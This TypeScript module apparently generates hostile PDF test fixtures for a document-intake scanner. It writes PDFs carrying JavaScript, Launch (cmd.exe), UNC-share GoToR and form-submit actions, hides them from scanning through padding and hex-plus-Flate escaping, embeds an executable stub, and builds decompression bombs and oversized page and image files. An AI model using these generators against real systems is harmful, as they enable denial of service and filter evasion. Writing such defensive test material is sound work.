/**
 * Hostile PDFs for the proof intake, written byte by byte with a correct
 * cross-reference table (or stream) so pdf.js opens them: one page of text whose catalog, page or
 * link annotation carries an action, placed (a) in the file body, (b) in an object stream whose
 * dictionary runs past 600 bytes before `stream`, (c) in an object stream with an
 * ASCIIHex + Flate filter chain and names spelled with #xx escapes. Also the bombs of the
 * finding: object and content streams inflating past the caps, many pages, a huge image.
 */
import { deflateRawSync, deflateSync, constants } from 'node:zlib';

export type Placement = 'body' | 'objectStream' | 'hexFlateObjectStream';
export type ActionPlace = 'OpenAction' | 'catalogAA' | 'pageAA' | 'annotationAA' | 'annotationA';
export const PLACEMENTS: Placement[] = ['body', 'objectStream', 'hexFlateObjectStream'];

/** Action dictionaries by kind, as a hostile file writes them. */
export const ACTIONS = {
  JavaScript: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  Launch: '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  URI: '<< /S /URI /URI (https://example.com/track) >>',
  GoToR: '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  SubmitForm: '<< /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >>',
  ImportData: '<< /S /ImportData /F (data.fdf) >>',
  ResetForm: '<< /S /ResetForm >>',
  GoToE: '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>',
  Rendition: '<< /S /Rendition /OP 0 >>',
  SetOCGState: '<< /S /SetOCGState /State [/OFF] >>',
} as const;
export type ActionKind = keyof typeof ACTIONS;

/** Each letter of a name after the first as #xx (/OpenAction is /O#70#65#6e...). */
export const escapeName = (name: string) =>
  '/' +
  name[0] +
  [...name.slice(1)].map((c) => `#${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

interface Obj {
  num: number;
  body: string | Buffer;
  /** Can go into an object stream (not a stream itself). */
  compressible: boolean;
}

const CONTENT = 'BT /F1 12 Tf 72 720 Td (Renters Insurance Declarations) Tj ET';

/** A stream object's bytes with its dictionary entries. */
export const streamObject = (dict: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);

/**
 * Writes objects as a PDF: the compressible ones in an object stream when `placement` asks,
 * with a cross-reference stream; else a classic xref table.
 */
export function writePdf(objects: Obj[], placement: Placement, root = 1): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets = new Map<number, number>();
  const inStream = new Map<number, number>();
  const put = (num: number, body: string | Buffer) => {
    offsets.set(num, offset);
    const bytes = Buffer.concat([
      Buffer.from(`${num} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(bytes);
    offset += bytes.length;
  };
  const maxNum = Math.max(...objects.map((o) => o.num));
  if (placement === 'body') {
    for (const o of objects) put(o.num, o.body);
    const size = maxNum + 1;
    const rows = ['0000000000 65535 f \n'];
    for (let n = 1; n < size; n += 1) {
      const at = offsets.get(n);
      rows.push(
        at === undefined ? '0000000000 65535 f \n' : `${String(at).padStart(10, '0')} 00000 n \n`,
      );
    }
    const tail = `xref\n0 ${size}\n${rows.join('')}trailer\n<< /Size ${size} /Root ${root} 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
    return Buffer.concat([...parts, Buffer.from(tail, 'latin1')]);
  }
  const escaped = placement === 'hexFlateObjectStream';
  const packed = objects.filter((o) => o.compressible);
  for (const o of objects) if (!o.compressible) put(o.num, o.body);
  const objStmNum = maxNum + 1;
  const xrefNum = maxNum + 2;
  let header = '';
  let bodies = '';
  packed.forEach((o, i) => {
    header += `${o.num} ${bodies.length} `;
    bodies += `${o.body as string}\n`;
    inStream.set(o.num, i);
  });
  const raw = Buffer.from(header + bodies, 'latin1');
  const first = header.length;
  const type = escaped ? escapeName('ObjStm') : '/ObjStm';
  if (escaped) {
    const data = Buffer.from(deflateSync(raw).toString('hex').toUpperCase() + '>', 'latin1');
    put(
      objStmNum,
      streamObject(
        `/Type ${type} /N ${packed.length} /First ${first} /Filter [/ASCIIHexDecode /FlateDecode]`,
        data,
      ),
    );
  } else {
    // The type and the filter first, then over 600 bytes of padding before `stream`: the old
    // raw scan looked only 600 bytes back from `stream` for them.
    const pad = `/Producer (${'x'.repeat(700)})`;
    put(
      objStmNum,
      streamObject(
        `/Type ${type} /Filter /FlateDecode ${pad} /N ${packed.length} /First ${first}`,
        deflateSync(raw),
      ),
    );
  }
  offsets.set(xrefNum, offset);
  const size = xrefNum + 1;
  const rows: Buffer[] = [];
  for (let n = 0; n < size; n += 1) {
    const row = Buffer.alloc(7);
    if (offsets.has(n)) {
      row[0] = 1;
      row.writeUInt32BE(offsets.get(n)!, 1);
    } else if (inStream.has(n)) {
      row[0] = 2;
      row.writeUInt32BE(objStmNum, 1);
      row.writeUInt16BE(inStream.get(n)!, 5);
    } else {
      row[0] = 0;
      row.writeUInt16BE(65535, 5);
    }
    rows.push(row);
  }
  const xref = streamObject(
    `/Type /XRef /Size ${size} /W [1 4 2] /Root ${root} 0 R`,
    Buffer.concat(rows),
  );
  put(xrefNum, xref);
  return Buffer.concat([
    ...parts,
    Buffer.from(`startxref\n${offsets.get(xrefNum)}\n%%EOF\n`, 'latin1'),
  ]);
}

/** One page of text, with extra entries in the catalog, the page and an optional annotation. */
function onePage(extra: {
  catalog?: string;
  page?: string;
  annotation?: string;
  more?: Obj[];
}): Obj[] {
  const annots = extra.annotation ? '/Annots [6 0 R]' : '';
  const objects: Obj[] = [
    {
      num: 1,
      body: `<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''} >>`,
      compressible: true,
    },
    { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', compressible: true },
    {
      num: 3,
      body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${annots} ${extra.page ?? ''} >>`,
      compressible: true,
    },
    { num: 4, body: streamObject('', Buffer.from(CONTENT, 'latin1')), compressible: false },
    { num: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', compressible: true },
  ];
  if (extra.annotation) {
    objects.push({
      num: 6,
      body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] ${extra.annotation} >>`,
      compressible: true,
    });
  }
  return [...objects, ...(extra.more ?? [])];
}

/** A one-page PDF whose `place` carries `kind`'s action, written as `placement` asks. */
export function actionPdf(kind: ActionKind, place: ActionPlace, placement: Placement): Buffer {
  const n = (name: string) =>
    placement === 'hexFlateObjectStream' ? escapeName(name) : `/${name}`;
  // The action itself is object 7, referenced, with its /S spelled like the keys.
  const action = ACTIONS[kind].replace(/\/S \/(\w+)/, (_m, s: string) => `${n('S')} ${n(s)}`);
  const ref = '7 0 R';
  const more: Obj[] = [{ num: 7, body: action, compressible: true }];
  const extra =
    place === 'OpenAction'
      ? { catalog: `${n('OpenAction')} ${ref}` }
      : place === 'catalogAA'
        ? { catalog: `${n('AA')} << /WC ${ref} >>` }
        : place === 'pageAA'
          ? { page: `${n('AA')} << /O ${ref} >>` }
          : place === 'annotationAA'
            ? { annotation: `${n('AA')} << /E ${ref} >>` }
            : { annotation: `/A ${ref}` };
  return writePdf(onePage({ ...extra, more }), placement);
}

/** A page with the links carriers print: a web link and a jump to the page (must pass). */
export function linkPdf(placement: Placement): Buffer {
  return writePdf(
    onePage({
      catalog: '/OpenAction [3 0 R /Fit]',
      annotation: '/A << /S /URI /URI (https://www.example-insurer.com/claims) >>',
      more: [
        {
          num: 7,
          body: '<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
          compressible: true,
        },
      ],
    }),
    placement,
  );
}

/** A one-page PDF with an embedded file in its names, or a file attachment annotation. */
export function attachedFilePdf(
  how: 'EmbeddedFiles' | 'FileAttachment',
  placement: Placement,
): Buffer {
  const file = {
    num: 8,
    body: streamObject('/Type /EmbeddedFile', Buffer.from('MZ')),
    compressible: false,
  };
  const spec = {
    num: 7,
    body: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
    compressible: true,
  };
  if (how === 'EmbeddedFiles') {
    return writePdf(
      onePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>',
        more: [spec, file],
      }),
      placement,
    );
  }
  const annotation = {
    num: 9,
    body: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>',
    compressible: true,
  };
  return writePdf(onePage({ page: '/Annots [9 0 R]', more: [spec, file, annotation] }), placement);
}

/**
 * A zlib stream inflating to `megabytes` MB of zeros, about a thousandth of that in size: one
 * non-final deflate block of 1 MB of zeros, repeated (each copy refers back only to zeros).
 */
export function zeroBomb(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_SYNC_FLUSH });
  const blocks = Buffer.concat(Array.from({ length: megabytes }, () => block));
  return Buffer.concat([Buffer.from([0x78, 0x9c]), blocks]);
}

/** The finding's bomb: an object stream inflating to 1 GB in a file of about 1 MB. */
export function objectStreamBomb(megabytes = 1024): Buffer {
  const objects = onePage({});
  objects.push({
    num: 7,
    body: streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zeroBomb(megabytes)),
    compressible: false,
  });
  return writePdf(objects, 'body');
}

/** Four pages whose content streams inflate to `megabytes` MB each (the 4 × 480 MB variant). */
export function contentBomb(pages = 4, megabytes = 480): Buffer {
  const bomb = zeroBomb(megabytes);
  const kids = Array.from({ length: pages }, (_, i) => `${10 + 2 * i} 0 R`).join(' ');
  const objects: Obj[] = [
    { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>', compressible: true },
    { num: 2, body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`, compressible: true },
  ];
  for (let i = 0; i < pages; i += 1) {
    objects.push({
      num: 10 + 2 * i,
      body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${11 + 2 * i} 0 R >>`,
      compressible: true,
    });
    objects.push({
      num: 11 + 2 * i,
      body: streamObject('/Filter /FlateDecode', bomb),
      compressible: false,
    });
  }
  return writePdf(objects, 'body');
}

/** `count` pages sharing one content stream (10,000 and 60,000 pages, as in the attacks tried). */
export function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, i) => `${10 + i} 0 R`).join(' ');
  const objects: Obj[] = [
    { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>', compressible: true },
    { num: 2, body: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, compressible: true },
    { num: 4, body: streamObject('', Buffer.from(CONTENT, 'latin1')), compressible: false },
    { num: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', compressible: true },
  ];
  for (let i = 0; i < count; i += 1) {
    objects.push({
      num: 10 + i,
      body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
      compressible: true,
    });
  }
  return writePdf(objects, 'body');
}

/** A page drawing one 1-bit image of width × height (400 × 99,999 in 5.6 KB, as in the attacks tried). */
export function imagePdf(width: number, height: number, placement: Placement = 'body'): Buffer {
  const data = deflateSync(Buffer.alloc(Math.ceil(width / 8) * height, 0xff));
  const objects: Obj[] = [
    { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>', compressible: true },
    { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', compressible: true },
    {
      num: 3,
      body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>',
      compressible: true,
    },
    {
      num: 4,
      body: streamObject('', Buffer.from('q 612 0 0 792 0 0 cm /Im1 Do Q', 'latin1')),
      compressible: false,
    },
    {
      num: 5,
      body: streamObject(
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode`,
        data,
      ),
      compressible: false,
    },
  ];
  return writePdf(objects, placement);
}

/**
 * A page drawing a 1-bit inline image (BI … ID … EI) of width × height in its content stream,
 * Flate-compressed or not.
 */
export function inlineImagePdf(width: number, height: number, compressed = true): Buffer {
  const pixels = deflateSync(Buffer.alloc(Math.ceil(width / 8) * height, 0xff));
  const content = Buffer.concat([
    Buffer.from(
      `q 612 0 0 792 0 0 cm\nBI /W ${width} /H ${height} /BPC 1 /IM true /F /Fl ID `,
      'latin1',
    ),
    pixels,
    Buffer.from('\nEI\nQ\n', 'latin1'),
  ]);
  const stream = compressed
    ? streamObject('/Filter /FlateDecode', deflateSync(content))
    : streamObject('', content);
  return writePdf(
    [
      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>', compressible: true },
      { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', compressible: true },
      {
        num: 3,
        body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
        compressible: true,
      },
      { num: 4, body: stream, compressible: false },
    ],
    'body',
  );
}
